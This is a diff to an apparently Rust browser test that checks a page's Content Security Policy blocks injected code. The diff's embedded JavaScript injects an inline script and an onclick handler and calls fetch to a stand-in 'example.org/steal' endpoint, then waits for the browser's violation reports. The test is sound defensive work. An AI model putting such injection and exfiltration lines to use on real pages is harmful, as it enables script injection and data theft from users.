@@ -17,20 +17,26 @@ const TOKEN: &str = "hush";
 const VIOLATIONS: &str = r#"
     window.violations = [];
     document.addEventListener("securitypolicyviolation", event =>
-        window.violations.push(`${event.violatedDirective}: ${event.blockedURI} ${event.sample}`));
+        window.violations.push(`${event.violatedDirective}: ${event.blockedURI} at ${event.sourceFile}:${event.lineNumber} ${event.sample}`));
 "#;
 
-/// What somebody would do who got words of his own into the page.
+/// What somebody would do who got words of his own into the page. The browser tells of refusals a little later.
 const INTRUDE: &str = r#"
     const [done] = arguments;
     const script = document.createElement("script");
     script.textContent = "window.intruded = true";
     document.body.append(script);
-    const image = document.createElement("img");
-    image.setAttribute("onerror", "window.intruded = true");
-    image.onload = image.src = "data:,";
-    document.body.append(image);
-    fetch("https://example.org/steal").catch(() => null).then(() => done([window.intruded ?? false, window.violations.length]));
+    const button = document.createElement("button");
+    button.setAttribute("onclick", "window.intruded = true");
+    button.click();
+    fetch("https://example.org/steal").catch(() => null);
+    const kinds = ["script-src-elem", "script-src-attr", "connect-src"];
+    const refused = () => kinds.every(kind => window.violations.some(violation => violation.startsWith(kind)));
+    const begun = performance.now();
+    const look = () => refused() || performance.now() - begun > 5000
+        ? done([window.intruded ?? false, window.violations, refused()])
+        : setTimeout(look, 10);
+    look();
 "#;
 
 pub fn nothing_but_its_own_runs() -> Result<()> {
@@ -47,8 +53,7 @@ pub fn nothing_but_its_own_runs() -> Result<()> {
         ensure!(violations == Value::Array(vec![]), "the page does what it may not: {violations}");
 
         let outcome = browser.client.execute_async(INTRUDE, vec![]).await?;
-        let (intruded, refused) = (&outcome[0], outcome[1].as_u64().context("no number")?);
-        ensure!(*intruded == false && refused >= 2, "{outcome}");
+        ensure!(outcome[0] == false && outcome[2] == true, "{outcome}");
         Ok(())
     })
 }
